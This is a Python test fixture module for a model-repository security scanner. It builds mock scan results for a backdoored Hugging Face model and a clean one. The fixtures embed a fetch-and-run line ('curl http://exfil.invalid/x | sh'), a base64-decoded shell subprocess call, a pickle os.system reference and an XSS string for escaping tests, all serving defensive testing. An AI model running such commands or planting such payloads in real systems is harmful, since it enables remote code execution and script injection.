"""ScanResults built directly from the model types, for report and policy tests.

They carry what the analyzers will produce (findings with CWE, snippets,
witness paths, binary offsets, errors) independent of which analyzers have
landed, plus hostile text (``</script>``, HTML, non-UTF-8 names) to test escaping.
"""

from __future__ import annotations

from pathlib import Path

from loadguard.model import (
    Confidence,
    EntryKind,
    EntryPoint,
    FileKind,
    Finding,
    Loader,
    LoadPlan,
    Location,
    Platform,
    ReachGraph,
    ReachNode,
    ScanError,
    ScanResult,
    Severity,
    SnapshotIdentity,
    Verdict,
    WeightFile,
)

COMMIT = "0123456789abcdef0123456789abcdef01234567"
HOSTILE = '</script><script>alert("x")</script><img src=x onerror=alert(1)>'


def backdoor_result(location: Path | str = "") -> ScanResult:
    plan = LoadPlan(
        loaders=(Loader.TRANSFORMERS,),
        entry_points=(
            EntryPoint(
                Loader.TRANSFORMERS,
                EntryKind.CLASS,
                "config.json auto_map.AutoModelForCausalLM",
                module="modeling_fast.py",
                qualname="FastForCausalLM",
                trust_flag="trust_remote_code=True",
            ),
            EntryPoint(
                Loader.TRANSFORMERS,
                EntryKind.CLASS,
                "tokenizer_config.json auto_map.AutoTokenizer[0]",
                module="tokenization_fast.py",
                qualname="FastTokenizer",
                trust_flag="trust_remote_code=True",
            ),
        ),
        executed_files=("modeling_fast.py", "kernels/loader.py", "tokenization_fast.py"),
        weights=(
            WeightFile("model.safetensors", FileKind.SAFETENSORS, 1024),
            WeightFile("training_args.bin", FileKind.TORCH_ZIP, 4096),
        ),
    )
    witness = (
        "config.json auto_map.AutoModelForCausalLM",
        "modeling_fast.py::FastForCausalLM.__init__",
        "kernels/loader.py::load_kernels",
    )
    reach = ReachGraph(
        nodes=(
            ReachNode("modeling_fast.py", "modeling_fast.py", None, witness[:1]),
            ReachNode(
                "modeling_fast.py::FastForCausalLM.__init__",
                "modeling_fast.py",
                "FastForCausalLM.__init__",
                witness[:2],
            ),
            ReachNode("kernels/loader.py", "kernels/loader.py", None, witness[:2]),
            ReachNode(
                "kernels/loader.py::load_kernels", "kernels/loader.py", "load_kernels", witness
            ),
        ),
        edges=(
            ("modeling_fast.py", "modeling_fast.py::FastForCausalLM.__init__"),
            ("modeling_fast.py::FastForCausalLM.__init__", "kernels/loader.py::load_kernels"),
        ),
        precision="function",
    )
    findings = (
        Finding(
            "LG-CMD-001",
            "native",
            "subprocess call with a shell command decoded from base64 at load time",
            Severity.CRITICAL,
            Confidence.HIGH,
            Location("kernels/loader.py", line=12, column=4, end_line=12),
            cwe=("CWE-78",),
            snippet="subprocess.run(base64.b64decode(CMD), shell=True)",
            reachable=True,
            witness=witness,
            evidence=("base64 -> 'curl http://exfil.invalid/x | sh'",),
        ),
        Finding(
            "LG-PKL-001",
            "pickle",
            "pickle imports os.system (GLOBAL opcode)",
            Severity.HIGH,
            Confidence.HIGH,
            Location("training_args.bin!archive/data.pkl", offset=57),
            cwe=("CWE-502",),
            snippet="",
            reachable=None,
            evidence=("GLOBAL os system", "REDUCE"),
        ),
        Finding(
            "LG-NET-002",
            "native",
            "network request to a hard-coded host " + HOSTILE,
            Severity.MEDIUM,
            Confidence.MEDIUM,
            Location("tokenization_fast.py", line=40),
            cwe=("CWE-200",),
            snippet="requests.post('https://x.invalid/' + " + HOSTILE + ")",
            reachable=False,
        ),
        Finding(
            "LG-CFG-001",
            "config",
            "config.json sets trust_remote_code = True",
            Severity.LOW,
            Confidence.HIGH,
            Location("config.json"),
            reachable=True,
        ),
    )
    return ScanResult(
        snapshot=SnapshotIdentity(
            Platform.HUGGINGFACE, "evil-org/fast-lm", COMMIT, False, str(location)
        ),
        plan=plan,
        findings=findings,
        errors=(
            ScanError("broken_utils.py", "parse", "invalid syntax at line 3", "parse"),
            ScanError(
                "weird\udcff" + HOSTILE + ".py",
                "source",
                "symlink leaves the repo",
                "symlink-escape",
            ),
        ),
        verdict=Verdict.MALICIOUS_LIKELY,
        reach=reach,
        file_count=9,
        total_bytes=6000,
    )


def clean_result() -> ScanResult:
    return ScanResult(
        snapshot=SnapshotIdentity(Platform.HUGGINGFACE, "good-org/bert-tiny", COMMIT, False, ""),
        plan=LoadPlan(
            loaders=(Loader.TRANSFORMERS,),
            entry_points=(),
            executed_files=(),
            weights=(WeightFile("model.safetensors", FileKind.SAFETENSORS, 2048),),
        ),
        findings=(),
        errors=(),
        verdict=Verdict.CLEAN,
        file_count=4,
        total_bytes=3000,
    )
